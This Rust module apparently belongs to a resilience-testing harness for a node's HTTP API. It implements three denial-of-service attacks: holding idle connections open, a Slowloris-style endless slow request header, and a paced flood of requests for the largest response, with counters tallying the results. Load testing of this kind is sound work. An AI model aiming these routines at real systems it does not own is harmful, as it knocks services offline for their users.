//! Attacks on the HTTP API.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::sleep;

use crate::attack::Scene;
use crate::http;
use crate::pace::Pace;
use crate::target::HttpTarget;

/// The wait between two bytes of a slow head.
const SLOWLY: Duration = Duration::from_millis(500);

/// The time limit of an answer.
const PATIENCE: Duration = Duration::from_secs(5);

/// Opens a connection and sends nothing, until the victim closes it.
pub(super) async fn silent(scene: &Scene, number: usize) -> io::Result<()> {
    let mut socket = connect(scene, number).await?;
    let mut bytes = [0; 512];
    while socket.read(&mut bytes).await? > 0 {}
    scene.tally.lost.add(1);
    Ok(())
}

/// Sends the head of a request byte by byte.
pub(super) async fn slow_head(scene: &Scene, number: usize) -> io::Result<()> {
    let mut socket = connect(scene, number).await?;
    for byte in
        b"GET /lean/v0/health HTTP/1.1\r\nhost: a\r\nx: ".iter().chain([b'a'].iter().cycle())
    {
        socket.write_all(&[*byte]).await?;
        sleep(SLOWLY).await;
    }
    Ok(())
}

/// Requests the largest answer again and again.
pub(super) async fn flood(scene: &Scene, number: usize) -> io::Result<()> {
    let mut pace = Pace::new(scene.rate);
    loop {
        pace.step().await;
        scene.tally.sent.add(1);
        let answer = http::get(api(scene, number), "/lean/v0/states/finalized", PATIENCE).await?;
        scene.tally.bytes_answered.add(answer.len() as u64);
    }
}

async fn connect(scene: &Scene, number: usize) -> io::Result<TcpStream> {
    let connected = TcpStream::connect(api(scene, number).socket()).await;
    match &connected {
        Ok(_) => scene.tally.connections.add(1),
        Err(_) => scene.tally.refused.add(1),
    }
    connected
}

fn api(scene: &Scene, number: usize) -> HttpTarget {
    scene.apis[number % scene.apis.len()]
}
